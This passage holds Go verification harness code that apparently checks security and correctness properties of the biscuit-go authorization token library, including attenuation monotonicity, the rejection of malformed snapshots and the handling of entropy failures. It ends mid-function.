	c := vInt64("c")
	chain := []gRule{
		{head: gAtom{name: "t", isVar: true}, body: []gAtom{{name: "s", isVar: true}}},
		{head: gAtom{name: "u", isVar: true}, body: []gAtom{{name: "t", isVar: true}}},
		{head: gAtom{name: "w", isVar: true}, body: []gAtom{{name: "u", isVar: true}}},
	}
	perms := [][3]int{{0, 1, 2}, {0, 2, 1}, {1, 0, 2}, {1, 2, 0}, {2, 0, 1}, {2, 1, 0}}
	pm := perms[vChoose("order", 6)]
	inToken := vChoose("first-rule-in-token", 2) == 1
	build := func(order [3]int) gRun {
		authority := gBlock{facts: []gAtom{{name: "s", c: c}}}
		var z gAuthz
		for _, k := range order {
			if inToken && k == 0 {
				authority.rules = append(authority.rules, chain[k])
			} else {
				z.rules = append(z.rules, chain[k])
			}
		}
		z.checks = [][]gRule{{{body: []gAtom{{name: "w", isVar: true}}}}}
		z.policies = []gPolicy{{queries: []gRule{{body: []gAtom{{name: "w", c: c}}}}}}
		g := gBuildToken(authority, nil)
		probe := Rule{Head: Predicate{Name: "r", IDs: []Term{Variable("x")}}, Body: []Predicate{{Name: "w", IDs: []Term{Variable("x")}}}}
		return gAuthorize(g.tok, z, probe)
	}
	first := build([3]int{0, 1, 2})
	second := build(pm)
	vObserve("class", first.class)
	vCover("compared")
	vAssert(first.class == oAllow, "C12.chain-derives")
	vAssert(first.class == second.class, "C12.same-outcome")
	if !first.qerr && !second.qerr {
		vAssert(gSetEq(first.facts, second.facts), "C12.same-derived-facts")
	}
}

func vSameToken(a, b *Biscuit) bool { return a == b }

// VerifC12Twice: on a token with attenuation blocks, asking the same authorizer twice gives the answer
// a fresh authorizer gives (the presentation "evaluate, then evaluate again" changes nothing).
func VerifC12Twice() {
	vForbidPanic("C12")
	vTimerMode(0)
	authority := gGenBlock("auth", vParam("authFacts"), 0, 0)
	b1 := gGenBlock("blk", vParam("blkFacts"), 0, vParam("blkCheck"))
	b2 := gGenBlock("blk2", vParam("blk2Facts"), 0, 0)
	var z gAuthz
	z.policies = gGenPolicies("pol", 1, 1)
	probe := gProbe("probe")
	g := gBuildToken(authority, []gBlock{b1, b2})
	fresh := gAuthorize(g.tok, z, probe)
	vObserve("class", fresh.class)
	a, err := NewVerifier(g.tok, gPatient)
	if err != nil {
		return
	}
	gLoad(a, z)
	c1 := gClass(a.Authorize())
	c2 := gClass(a.Authorize())
	c3 := gClass(a.Authorize())
	fs, qerr := a.Query(probe)
	vCover("compared")
	vAssert(c1 == fresh.class, "C12.first-call")
	vAssert(c2 == fresh.class, "C12.second-call-same-outcome")
	vAssert(c3 == fresh.class, "C12.third-call-same-outcome")
	vAssert((qerr != nil) == fresh.qerr, "C12.same-query-error")
	if qerr == nil && !fresh.qerr {
		vAssert(gSetEq(fs, fresh.facts), "C12.same-derived-facts")
	}
}

// VerifC18RefusedAfterFailure: an evaluation that ends in an error (a run limit, here) has still merged the
// token's content into the authorizer: saving must be refused afterwards just as after a successful one,
// otherwise the snapshot carries the token's facts into whatever authorizer loads it.
func VerifC18RefusedAfterFailure() {
	vForbidPanic("C18")
	vTimerMode(0)
	authority := gBlock{facts: []gAtom{{name: "right", c: 1}, {name: "right", c: 2}, {name: "right", c: 3}}}
	g := gBuildToken(authority, nil)
	maxFacts := vInt("maxFacts")
	vAssume(vAnd(maxFacts >= 0, maxFacts <= 6))
	src, err := NewVerifier(g.tok, WithWorldOptions(datalog.WithMaxFacts(maxFacts), datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		return
	}
	src.AddFact(Fact{Predicate{Name: "own", IDs: []Term{Integer(vInt64("own.c"))}}})
	src.AddPolicy(DefaultAllowPolicy)
	var everr error
	if vChoose("evaluation", 2) == 0 {
		vLabel("evaluated by Authorize")
		everr = src.Authorize()
	} else {
		vLabel("evaluated by Query")
		_, everr = src.Query(Rule{Head: Predicate{Name: "r", IDs: []Term{Variable("x")}}, Body: []Predicate{{Name: "own", IDs: []Term{Variable("x")}}}})
	}
	vObserve("evaluation-failed", everr != nil)
	if everr != nil {
		vCover("evaluation-failed")
	} else {
		vCover("evaluation-succeeded")
	}
	_, serr := src.SerializePolicies()
	vAssert(serr != nil, "C18.refused-after-evaluation")
}

// VerifC12TwinRules: two rules that differ in nothing but the comparison they make both count, in either
// order of registration; so do a rule and its exact copy.
func VerifC12TwinRules() {
	vForbidPanic("C12")
	vTimerMode(0)
	gNames, gVarName = 0, "x"
	ops := [...]BinaryOp{BinaryLessThan, BinaryGreaterThan, BinaryLessOrEqual, BinaryGreaterOrEqual, BinaryEqual}
	o1 := ops[vChoose("op1", len(ops))]
	o2 := ops[vChoose("op2", len(ops))]
	e := vInt64("e")
	c1, c2 := vInt64("c1"), vInt64("c2")
	mk := func(op BinaryOp) Rule {
		return Rule{Head: Predicate{Name: "q", IDs: []Term{Variable("x")}},
			Body:        []Predicate{{Name: "s", IDs: []Term{Variable("x")}}},
			Expressions: []Expression{{Value{Variable("x")}, Value{Integer(e)}, op}}}
	}
	authority := gBlock{facts: []gAtom{{name: "s", c: c1}, {name: "s", c: c2}}}
	g := gBuildToken(authority, nil)
	probe := Rule{Head: Predicate{Name: "r", IDs: []Term{Variable("x")}}, Body: []Predicate{{Name: "q", IDs: []Term{Variable("x")}}}}
	run := func(first, second Rule) gRun {
		a, err := NewVerifier(g.tok, gPatient)
		if err != nil {
			vAssume(false)
		}
		a.AddRule(first)
		a.AddRule(second)
		a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{Head: Predicate{Name: "allow"}, Body: []Predicate{{Name: "q", IDs: []Term{Integer(c2)}}}}}})
		var r gRun
		r.class = gClass(a.Authorize())
		fs, qerr := a.Query(probe)
		r.facts, r.qerr = fs, qerr != nil
		return r
	}
	ab := run(mk(o1), mk(o2))
	ba := run(mk(o2), mk(o1))
	vObserve("class", ab.class)
	vCover("compared")
	vAssert(ab.class == ba.class, "C12.twin-rules-same-outcome")
	if !ab.qerr && !ba.qerr {
		vAssert(gSetEq(ab.facts, ba.facts), "C12.twin-rules-same-derived-facts")
	}
}

// VerifC18Malformed: a snapshot whose content does not hang together -- a constant that is a symbol index
// no table resolves, a symbol table that repeats an entry or restates a default symbol (every later index
// then shifts) -- is malformed and must be refused, not given whatever meaning the loading authorizer's
// own strings lend it.
func VerifC18Malformed() {
	vForbidPanic("C18")
	vTimerMode(0)
	ver := uint32(3)
	kind := pb.Policy_Allow
	p0 := uint64(1024)
	str := uint64(1025)
	syms := []string{"p", "alice"}
	wellFormed := false
	switch vChoose("defect", 5) {
	case 0:
		vLabel("well-formed")
		wellFormed = true
	case 1:
		vLabel("dangling index in a fact")
		d := vUint64("dangling")
		vAssume(vAnd(d >= 1026, d <= 1030))
		str = d
	case 2:
		vLabel("repeated symbol")
		syms = []string{"p", "alice", "alice", "bob"}
		str = 1027
	case 3:
		vLabel("default symbol restated")
		syms = []string{"p", "read", "bob"}
		str = 1026
	default:
		vLabel("index in the gap of the default table")
		d := vUint64("gap")
		vAssume(vAnd(d >= 28, d < 1024))
		str = d
	}
	term := &pb.TermV2{Content: &pb.TermV2_String_{String_: str}}
	pred := &pb.PredicateV2{Name: &p0, Terms: []*pb.TermV2{term}}
	ap := &pb.AuthorizerPolicies{Symbols: syms, Version: &ver}
	where := vChoose("where", 3)
	good := &pb.PredicateV2{Name: &p0, Terms: []*pb.TermV2{{Content: &pb.TermV2_Integer{Integer: 1}}}}
	switch where {
	case 0:
		ap.Facts = []*pb.FactV2{{Predicate: pred}}
	case 1:
		ap.Checks = []*pb.CheckV2{{Queries: []*pb.RuleV2{{Head: good, Body: []*pb.PredicateV2{pred}}}}}
	default:
		ap.Policies = []*pb.Policy{{Kind: &kind, Queries: []*pb.RuleV2{{Head: good, Body: []*pb.PredicateV2{pred}}}}}
	}
	data, err := proto.Marshal(ap)
	if err != nil {
		return
	}
	g := gBuildToken(gBlock{facts: []gAtom{{name: "a", c: 1}}}, nil)
	a, err := NewVerifier(g.tok, gPatient)
	if err != nil {
		return
	}
	lerr := a.LoadPolicies(data)
	vCover("loaded")
	if wellFormed {
		vAssert(lerr == nil, "C18.well-formed-accepted")
		vCover("accepted")
		return
	}
	vAssert(lerr != nil, "C18.malformed-rejected")
}
