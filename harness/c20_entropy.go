package biscuit

// C20 — entropy failure is reported, never turned into a panic or a degenerate key.

import (
	"crypto/ed25519"
	"errors"
	"io"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

var vErrEntropy = errors.New("verif: entropy source failed")

// vFailReader delivers `deliver` symbolic bytes in chunks of at most `chunk`, then fails.
// deliver < 0 means it never fails.
type vFailReader struct {
	deliver int
	chunk   int
	n       int
	got     []byte
	fail    error // what the source reports when it is dry
	final   bool  // deliver the last chunk together with the error (allowed by io.Reader)
}

func (r *vFailReader) Read(p []byte) (int, error) {
	if r.deliver >= 0 && r.n >= r.deliver {
		return 0, r.fail
	}
	k := len(p)
	if r.chunk > 0 && k > r.chunk {
		k = r.chunk
	}
	if r.deliver >= 0 && k > r.deliver-r.n {
		k = r.deliver - r.n
	}
	for i := 0; i < k; i++ {
		b := vByte("rng")
		p[i] = b
		r.got = append(r.got, b)
	}
	r.n += k
	if r.final && r.deliver >= 0 && r.n >= r.deliver {
		return k, r.fail
	}
	return k, nil
}

// vGoodReader never fails.
type vGoodReader struct{ got []byte }

func (r *vGoodReader) Read(p []byte) (int, error) {
	for i := range p {
		b := vByte("rng")
		p[i] = b
		r.got = append(r.got, b)
	}
	return len(p), nil
}

func c20Authority() *Block {
	syms := &datalog.SymbolTable{}
	return &Block{symbols: syms, facts: &datalog.FactSet{}, version: MaxSchemaVersion}
}

func VerifC20Entropy() {
	vForbidPanic("C20")
	rootSeed := vBytes("root", 32)
	root := ed25519.NewKeyFromSeed(rootSeed)
	rootPub := root.Public().(ed25519.PublicKey)

	op := vChoose("op", 3)
	vLabel([...]string{"op=New", "op=Builder.Build", "op=Append"}[op])
	k := vChoose("deliver", 34) // 0..32 bytes then failure; 33 = never fails
	chunk := [...]int{0, 1, 7}[vChoose("chunking", 3)]
	deliver := k
	if k == 33 {
		deliver = -1
	}
	fail := [...]error{vErrEntropy, io.EOF, io.ErrUnexpectedEOF}[vChoose("error-kind", 3)]
	rng := &vFailReader{deliver: deliver, chunk: chunk, fail: fail, final: vChoose("error-with-last-chunk", 2) == 1}
	fails := k < 32

	var tok *Biscuit
	var err error
	switch op {
	case 0:
		tok, err = New(rng, root, defaultSymbolTable.Clone(), c20Authority())
	case 1:
		// the random source given together with other options must still be the one that is used
		opts := []builderOption{WithRNG(rng)}
		switch vChoose("builder-options", 3) {
		case 1:
			opts = []builderOption{WithRNG(rng), WithRootKeyID(vUint32("keyid"))}
		case 2:
			opts = []builderOption{WithRootKeyID(vUint32("keyid")), WithRNG(rng), WithSymbols(defaultSymbolTable.Clone())}
		}
		b := NewBuilder(root, opts...)
		b.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{String("read")}}})
		tok, err = b.Build()
	default:
		good := &vGoodReader{}
		parent, perr := New(good, root, defaultSymbolTable.Clone(), c20Authority())
		vAssert(perr == nil, "C20.parent")
		if perr != nil {
			return
		}
		bb := parent.CreateBlock()
		bb.AddFact(Fact{Predicate{Name: "x", IDs: []Term{Integer(1)}}})
		tok, err = parent.Append(rng, bb.Build())
	}
	vCover("returned")
	vObserve("err", err != nil)
	if fails {
		vCover("failing-source")
		vAssert(err != nil, "C20.error-reported")
		vAssert(tok == nil, "C20.no-token")
		return
	}
	vCover("good-source")
	vAssert(err == nil, "C20.success")
	if err != nil || tok == nil {
		return
	}
	// the next key pair is the one derived from the delivered bytes
	vAssert(len(rng.got) >= 32, "C20.drew-32")
	secret := tok.container.Proof.GetNextSecret()
	vAssert(vBytesEq(secret, rng.got[:32]), "C20.secret-is-delivered")
	var last []byte
	if n := len(tok.container.Blocks); n > 0 {
		last = tok.container.Blocks[n-1].NextKey.Key
	} else {
		last = tok.container.Authority.NextKey.Key
	}
	vAssert(vBytesEq(last, vPub(rng.got[:32])), "C20.public-matches")
	_, verr := tok.AuthorizerFor(WithSingularRootPublicKey(rootPub))
	vAssert(verr == nil, "C20.verifies")
	if verr == nil {
		vCover("verified")
	}
}

// VerifC20Sequence: ONE source feeds a whole derivation history (New, Append, Append) and fails after
// k bytes in total, for every k up to the total amount requested: the operation during which it runs
// dry returns an error and no token; everything before it succeeded with keys made of the bytes
// actually delivered.
func VerifC20Sequence() {
	vForbidPanic("C20")
	draws := vParam("draws")
	rootSeed := vBytes("root", 32)
	root := ed25519.NewKeyFromSeed(rootSeed)
	rootPub := root.Public().(ed25519.PublicKey)
	k := vChoose("deliver", 32*draws+1)
	chunk := [...]int{0, 1, 5}[vChoose("chunking", 3)]
	fail := [...]error{vErrEntropy, io.EOF}[vChoose("error-kind", 2)]
	rng := &vFailReader{deliver: k, chunk: chunk, fail: fail, final: vChoose("error-with-last-chunk", 2) == 1}
	var tok *Biscuit
	for d := 0; d < draws; d++ {
		var next *Biscuit
		var err error
		if d == 0 {
			next, err = New(rng, root, defaultSymbolTable.Clone(), c20Authority())
		} else {
			bb := tok.CreateBlock()
			bb.AddFact(Fact{Predicate{Name: "x", IDs: []Term{Integer(d)}}})
			next, err = tok.Append(rng, bb.Build())
		}
		enough := k >= 32*(d+1)
		if !enough {
			vCover("ran-dry")
			vAssert(err != nil, "C20.seq.error-reported")
			vAssert(next == nil, "C20.seq.no-token")
			return
		}
		vAssert(err == nil, "C20.seq.success")
		if err != nil || next == nil {
			return
		}
		tok = next
		secret := tok.container.Proof.GetNextSecret()
		vAssert(len(rng.got) >= 32*(d+1), "C20.seq.drew")
		if len(rng.got) >= 32*(d+1) {
			vAssert(vBytesEq(secret, rng.got[32*d:32*(d+1)]), "C20.seq.secret-is-delivered")
		}
		_, verr := tok.AuthorizerFor(WithSingularRootPublicKey(rootPub))
		vAssert(verr == nil, "C20.seq.verifies")
	}
	vCover("all-drawn")
}
