package datalog

func VerifSmoke() {
	a := vInt64("a")
	b := vInt64("b")
	res, err := Add{}.Eval(Integer(a), Integer(b), &SymbolTable{})
	if err != nil {
		vCover("err")
		vAssert(err == ErrInt64Overflow, "smoke.errkind")
	} else {
		vCover("ok")
		r := res.(Integer)
		vAssert(int64(r) == a+b, "smoke.sum")
		vAssert(vOr(vNot(vAnd(a > 0, b > 0)), int64(r) > 0), "smoke.sign")
	}
	q, err := Div{}.Eval(Integer(a), Integer(b), &SymbolTable{})
	if err == nil {
		vAssert(vOr(int64(q.(Integer)) >= 0, vOr(a < 0, b < 0)), "smoke.divsign")
	}
}
