package biscuit

import (
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
)

// Relational authorization harnesses: C02 (attenuation monotone), C03 (block scoping),
// C09 (sealed equivalence), C12 (presentation independence), C13 (Reset), C18 (snapshot).

func gTermEq(a, b Term) bool {
	switch x := a.(type) {
	case Integer:
		y, ok := b.(Integer)
		return ok && x == y
	case String:
		y, ok := b.(String)
		return ok && vStrEq(string(x), string(y))
	case Variable:
		y, ok := b.(Variable)
		return ok && vStrEq(string(x), string(y))
	case Bool:
		y, ok := b.(Bool)
		return ok && x == y
	}
	return false
}

func gFactEq(a, b Fact) bool {
	if len(a.IDs) != len(b.IDs) {
		return false
	}
	c := vStrEq(a.Name, b.Name)
	for i := range a.IDs {
		c = vAnd(c, gTermEq(a.IDs[i], b.IDs[i]))
	}
	return c
}

func gSubset(a, b FactSet) bool {
	r := true
	for _, f := range a {
		in := false
		for _, g := range b {
			in = vOr(in, gFactEq(f, g))
		}
		r = vAnd(r, in)
	}
	return r
}

func gSetEq(a, b FactSet) bool { return vAnd(gSubset(a, b), gSubset(b, a)) }

// gProbe: a query rule r(X) <- n(X) for a symbolic name n, used to observe derived facts.
func gProbe(tag string) Rule {
	return Rule{Head: Predicate{Name: "r", IDs: []Term{Variable("x")}}, Body: []Predicate{{Name: gName(tag), IDs: []Term{Variable("x")}}}}
}

type gRun struct {
	class int
	facts FactSet
	qerr  bool
}

// gAuthorize creates an authorizer for tok, loads z, authorizes and then queries probe.
func gAuthorize(tok *Biscuit, z gAuthz, probe Rule) gRun {
	a, err := NewVerifier(tok, gPatient)
	if err != nil {
		vAssert(false, "gen.verifier")
		vAssume(false)
	}
	gLoad(a, z)
	var r gRun
	r.class = gClass(a.Authorize())
	fs, qerr := a.Query(probe)
	r.facts, r.qerr = fs, qerr != nil
	return r
}

// VerifC02Attenuation: if T+B is authorized then T is.
func VerifC02Attenuation() {
	vForbidPanic("C02")
	vTimerMode(0)
	authority := gGenBlock("auth", vParam("authFacts"), vParam("authRule"), vParam("authCheck"))
	var earlier []gBlock
	for i := 0; i < vParam("blocks"); i++ {
		earlier = append(earlier, gGenBlock("blk", vParam("blkFacts"), vParam("blkRule"), vParam("blkCheck")))
	}
	extra := gGenBlock("new", vParam("newFacts"), vParam("newRule"), vParam("newCheck"))
	var z gAuthz
	z.gBlock = gGenBlock("az", vParam("azFacts"), vParam("azRule"), vParam("azCheck"))
	z.policies = gGenPolicies("pol", vParam("policies"), vParam("polMode"))
	g := gBuildToken(authority, earlier)
	parent := g.tok
	child := gAppend(g, parent, extra)
	probe := gProbe("probe")
	withB := gAuthorize(child, z, probe)
	without := gAuthorize(parent, z, probe)
	vObserve("with", withB.class)
	vObserve("without", without.class)
	if withB.class == oAllow {
		vCover("child-allowed")
	} else {
		vCover("child-refused")
	}
	vAssert(vImplies(withB.class == oAllow, without.class == oAllow), "C02.monotone")
}

// VerifC03Scoping: a block carrying only facts and rules changes nothing outside itself.
func VerifC03Scoping() {
	vForbidPanic("C03")
	vTimerMode(0)
	authority := gGenBlock("auth", vParam("authFacts"), vParam("authRule"), vParam("authCheck"))
	other := gGenBlock("blk", vParam("blkFacts"), vParam("blkRule"), vParam("blkCheck"))
	x := gGenBlock("x", vParam("xFacts"), vParam("xRule"), 0) // facts and rules only
	var z gAuthz
	z.gBlock = gGenBlock("az", vParam("azFacts"), vParam("azRule"), vParam("azCheck"))
	z.policies = gGenPolicies("pol", vParam("policies"), vParam("polMode"))
	pos := vChoose("position", 2) // X before or after the other block
	g := gBuildToken(authority, nil)
	base := gAppend(g, g.tok, other)
	var with *Biscuit
	if pos == 0 {
		with = gAppend(g, gAppend(g, g.tok, x), other)
	} else {
		with = gAppend(g, base, x)
	}
	probe := gProbe("probe")
	r0 := gAuthorize(base, z, probe)
	r1 := gAuthorize(with, z, probe)
	vObserve("class", r0.class)
	vCover("compared")
	vAssert(r0.class == r1.class, "C03.same-outcome")
	vAssert(r0.qerr == r1.qerr, "C03.same-query-error")
	if !r0.qerr && !r1.qerr {
		vAssert(gSetEq(r0.facts, r1.facts), "C03.same-query-result")
	}
}

// VerifC09Equivalent: a sealed token authorizes exactly like the token it was sealed from.
func VerifC09Equivalent() {
	vForbidPanic("C09")
	vTimerMode(0)
	authority, blocks, z := gScenario()
	g := gBuildToken(authority, blocks)
	s, err := g.tok.Seal(g.rng)
	vAssert(err == nil, "C09.seal")
	if err != nil {
		return
	}
	if vParamOpt("baseSyms") == 0 && vChoose("reloaded", 2) == 1 {
		s = c16Reload(s)
	}
	probe := gProbe("probe")
	r0 := gAuthorize(g.tok, z, probe)
	r1 := gAuthorize(s, z, probe)
	vObserve("class", r0.class)
	vCover("compared")
	vAssert(r0.class == r1.class, "C09.same-outcome")
	if !r0.qerr && !r1.qerr {
		vAssert(gSetEq(r0.facts, r1.facts), "C09.same-query-result")
	}
}

// VerifC13Reset: a reused authorizer after Reset behaves like a fresh one.
func VerifC13Reset() {
	vForbidPanic("C13")
	vTimerMode(0)
	authority := gGenBlock("auth", vParam("authFacts"), vParam("authRule"), vParam("authCheck"))
	g := gBuildToken(authority, nil)
	var z1, z2 gAuthz
	z1.gBlock = gGenBlock("az1", vParam("az1Facts"), vParam("az1Rule"), vParam("az1Check"))
	z1.policies = gGenPolicies("pol1", vParam("policies"), vParam("polMode"))
	z2.gBlock = gGenBlock("az2", vParam("az2Facts"), vParam("az2Rule"), vParam("az2Check"))
	z2.policies = gGenPolicies("pol2", vParam("policies"), vParam("polMode"))
	probe := gProbe("probe")

	// round 1 ends in: an authorization (any outcome), a query, or a run-limit error
	r1 := vChoose("round1", 5)
	opts := gPatient
	if r1 == 2 {
		// a tight fact limit that round 1 exceeds and round 2 does not
		opts = WithWorldOptions(datalog.WithMaxFacts(4), datalog.WithMaxDuration(30*time.Second))
	}
	a, err := NewVerifier(g.tok, opts)
	if err != nil {
		return
	}
	if r1 == 3 {
		// round 1 arrives as a snapshot
		vLabel("round1=load-policies+authorize")
		src, serr := NewVerifier(g.tok, opts)
		if serr != nil {
			return
		}
		gLoad(src, z1)
		data, derr := src.SerializePolicies()
		if derr != nil {
			return
		}
		vAssert(a.LoadPolicies(data) == nil, "C13.round1-load")
		a.Authorize()
	} else {
		gLoad(a, z1)
	}
	switch r1 {
	case 3:
	case 4:
		// content was added and the caller changed its mind: nothing was evaluated before the Reset
		vLabel("round1=abandoned before evaluation")
	case 0:
		vLabel("round1=authorize")
		c1 := gClass(a.Authorize())
		vObserve("class1", c1)
	case 1:
		vLabel("round1=query")
		a.Query(probe)
	default:
		vLabel("round1=run-limit error")
		for i := 0; i < 4; i++ {
			a.AddFact(Fact{Predicate{Name: "bulk", IDs: []Term{Integer(i)}}})
		}
		lerr := a.Authorize()
		vAssert(lerr != nil, "C13.round1-limit")
	}
	a.Reset()
	// round 2 on the reused authorizer (through a snapshot made by an unrelated authorizer when round 1
	// came as a snapshot: its symbol indexes assume a clean base table)
	var snap2 []byte
	if r1 == 3 {
		src2, serr := NewVerifier(g.tok, opts)
		if serr != nil {
			return
		}
		gLoad(src2, z2)
		snap2, serr = src2.SerializePolicies()
		if serr != nil {
			return
		}
		vAssert(a.LoadPolicies(snap2) == nil, "C13.round2-load")
	} else {
		gLoad(a, z2)
	}
	var reused gRun
	reused.class = gClass(a.Authorize())
	fs, qerr := a.Query(probe)
	reused.facts, reused.qerr = fs, qerr != nil
	// the same round on a fresh authorizer (created with the same options)
	fa, err := NewVerifier(g.tok, opts)
	if err != nil {
		return
	}
	if r1 == 3 {
		vAssert(fa.LoadPolicies(snap2) == nil, "C13.fresh-load")
	} else {
		gLoad(fa, z2)
	}
	var fresh gRun
	fresh.class = gClass(fa.Authorize())
	ffs, fqerr := fa.Query(probe)
	fresh.facts, fresh.qerr = ffs, fqerr != nil
	vObserve("reused", reused.class)
	vObserve("fresh", fresh.class)
	vCover("compared")
	vAssert(reused.class == fresh.class, "C13.same-outcome")
	vAssert(reused.qerr == fresh.qerr, "C13.same-query-error")
	if !reused.qerr && !fresh.qerr {
		vAssert(gSetEq(reused.facts, fresh.facts), "C13.same-query-result")
	}
	// a third round after a second Reset (what a first Reset hides can show on the second one): the content
	// of round 1 again, compared with a fresh authorizer given that content
	if vParamOpt("thirdRound") == 0 || r1 == 3 {
		return
	}
	a.Reset()
	gLoad(a, z1)
	var again gRun
	again.class = gClass(a.Authorize())
	afs, aqerr := a.Query(probe)
	again.facts, again.qerr = afs, aqerr != nil
	third := gAuthorize3(g.tok, z1, probe, opts)
	vAssert(again.class == third.class, "C13.third-round-same-outcome")
	vAssert(again.qerr == third.qerr, "C13.third-round-same-query-error")
	if !again.qerr && !third.qerr {
		vAssert(gSetEq(again.facts, third.facts), "C13.third-round-same-query-result")
	}
}

// gAuthorize3: gAuthorize with the authorizer options of the caller.
func gAuthorize3(tok *Biscuit, z gAuthz, probe Rule, opts AuthorizerOption) gRun {
	a, err := NewVerifier(tok, opts)
	if err != nil {
		vAssert(false, "gen.verifier")
		vAssume(false)
	}
	gLoad(a, z)
	var r gRun
	r.class = gClass(a.Authorize())
	fs, qerr := a.Query(probe)
	r.facts, r.qerr = fs, qerr != nil
	return r
}

// VerifC02Dangling: the parent token is written by hand (as any holder can for the blocks they append, and
// as a careless issuer can for the authority block): one of its constants is a symbol index that no table
// resolves yet. A block appended later brings new symbols; if those gave the old index a meaning, appending
// would turn a refusal into an acceptance. Either the library refuses such a parent, or appending changes nothing.
func VerifC02Dangling() {
	vForbidPanic("C02")
	vTimerMode(0)
	v := uint32(3)
	right := uint64(1024)
	d := vUint64("dangling")
	vAssume(vAnd(d >= 1025, d <= 1027)) // first indexes past the parent's table
	where := vChoose("dangling-in", 2)
	authBlk := &pb.Block{Symbols: []string{"perm"}, Version: &v}
	fact := &pb.FactV2{Predicate: &pb.PredicateV2{Name: &right, Terms: []*pb.TermV2{{Content: &pb.TermV2_String_{String_: d}}}}}
	blocks := []*pb.Block{authBlk}
	if where == 0 {
		vLabel("dangling index in the authority block")
		authBlk.FactsV2 = []*pb.FactV2{fact}
	} else {
		vLabel("dangling index in a holder's block")
		one := &pb.FactV2{Predicate: &pb.PredicateV2{Name: &right, Terms: []*pb.TermV2{{Content: &pb.TermV2_Integer{Integer: 1}}}}}
		authBlk.FactsV2 = []*pb.FactV2{one}
		// check if right(#d): unsatisfiable as long as #d has no meaning
		q := &pb.RuleV2{Head: &pb.PredicateV2{Name: &right}, Body: []*pb.PredicateV2{{Name: &right, Terms: []*pb.TermV2{{Content: &pb.TermV2_String_{String_: d}}}}}}
		blocks = append(blocks, &pb.Block{Version: &v, ChecksV2: []*pb.CheckV2{{Queries: []*pb.RuleV2{q}}}})
	}
	h, ok := hSign(blocks, false)
	if !ok {
		return
	}
	parent, err := Unmarshal(h.data)
	vCover("decided")
	if err != nil {
		vCover("parent-refused-at-unmarshal")
		return
	}
	// the appended block: one fact whose predicate name and string are new symbols
	bb := parent.CreateBlock()
	bb.AddFact(Fact{Predicate{Name: "root", IDs: []Term{String("extra")}}})
	child, err := parent.Append(&chainRNG{}, bb.Build())
	if err != nil {
		return
	}
	if vChoose("child-reloaded", 2) == 1 {
		child = c16Reload(child)
	}
	asked := [...]string{"root", "extra"}[vChoose("asked", 2)]
	run := func(t *Biscuit) int {
		a, err := t.AuthorizerFor(WithSingularRootPublicKey(h.rootPub), gPatient)
		if err != nil {
			return oFailed
		}
		if where == 0 {
			// allow if right(asked): only the authority's own fact can satisfy it
			a.AddPolicy(Policy{Kind: PolicyKindAllow, Queries: []Rule{{Head: Predicate{Name: "q"}, Body: []Predicate{{Name: "perm", IDs: []Term{String(asked)}}}}}})
		} else {
			// the request carries right(asked); the holder's block demands right(#d)
			a.AddFact(Fact{Predicate{Name: "perm", IDs: []Term{String(asked)}}})
			a.AddPolicy(DefaultAllowPolicy)
		}
		return gClass(a.Authorize())
	}
	withB := run(child)
	without := run(parent)
	vObserve("with", withB)
	vObserve("without", without)
	vCover("compared")
	vAssert(vImplies(withB == oAllow, without == oAllow), "C02.monotone-dangling")
}
