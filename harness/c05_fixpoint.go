package datalog

// C05 — Datalog evaluation computes exactly the least fixpoint.
// C11 (part) — limits. The program family is shared (c05Program).

import "time"

type c05Rule struct {
	r      Rule
	hasExp bool
	expVar Variable
	expC   int64
}

type c05Prog struct {
	kind  int // constant kind: kInt, kStr, kDate, kBytes, kBool
	facts []Fact
	rules []c05Rule
}

func c05Const(name string, kind int) Term {
	switch kind {
	case kInt:
		return Integer(vInt64(name))
	case kStr:
		return String(vUint64(name))
	case kDate:
		return Date(vUint64(name))
	case kBool:
		return Bool(vBool(name))
	default:
		return Bytes(vBytes(name, 1))
	}
}

// c05Program builds a symbolic program within the bounds given by the parameters.
func c05Program() c05Prog {
	F := vParam("facts")
	R := vParam("rules")
	B := vParam("body")
	A := vParam("arity")
	V := vParam("vars")
	withExpr := vParam("expr")
	kinds := vParam("kinds")
	pg := c05Prog{kind: kInt}
	if kinds > 1 {
		pg.kind = [...]int{kInt, kStr, kDate, kBool, kBytes}[vChoose("constkind", kinds)]
	}
	nf := F
	if vParam("varfacts") != 0 {
		nf = 1 + vChoose("nfacts", F)
	}
	for i := 0; i < nf; i++ {
		ar := vChoose("f.arity", A+1)
		p := Predicate{Name: String(vUint64("f.name")), Terms: make([]Term, ar)}
		for j := 0; j < ar; j++ {
			p.Terms[j] = c05Const("f.term", pg.kind)
		}
		pg.facts = append(pg.facts, Fact{p})
	}
	nr := R
	if vParam("varrules") != 0 {
		nr = 1 + vChoose("nrules", R)
	}
	for r := 0; r < nr; r++ {
		nb := 1 + vChoose("r.nbody", B)
		var used []Variable
		body := make([]Predicate, nb)
		for b := 0; b < nb; b++ {
			ar := vChoose("b.arity", A+1)
			p := Predicate{Name: String(vUint64("b.name")), Terms: make([]Term, ar)}
			for j := 0; j < ar; j++ {
				k := vChoose("b.term", V+1)
				if k < V {
					v := Variable(k)
					p.Terms[j] = v
					seen := false
					for _, u := range used {
						if u == v {
							seen = true
						}
					}
					if !seen {
						used = append(used, v)
					}
				} else {
					p.Terms[j] = c05Const("b.const", pg.kind)
				}
			}
			body[b] = p
		}
		har := vChoose("h.arity", A+1)
		head := Predicate{Name: String(vUint64("h.name")), Terms: make([]Term, har)}
		for j := 0; j < har; j++ {
			// range restricted: head variables come from the body
			k := vChoose("h.term", len(used)+1)
			if k < len(used) {
				head.Terms[j] = used[k]
			} else {
				head.Terms[j] = c05Const("h.const", pg.kind)
			}
		}
		cr := c05Rule{r: Rule{Head: head, Body: body}}
		if withExpr != 0 && pg.kind == kInt && len(used) > 0 && vChoose("r.expr", 2) == 1 {
			cr.hasExp = true
			cr.expVar = used[vChoose("r.expvar", len(used))]
			cr.expC = vInt64("r.expc")
			cr.r.Expressions = []Expression{{Value{ID: cr.expVar}, Value{ID: Integer(cr.expC)}, BinaryOp{LessThan{}}}}
		}
		pg.rules = append(pg.rules, cr)
	}
	return pg
}

// c05Matches: the declarative meaning of "rule matches this tuple of facts and yields head instance".
// Returns the match condition and the instantiated head terms (nil entries never occur when cond holds).
func c05Matches(cr c05Rule, tuple []Fact) (bool, []Term) {
	cond := true
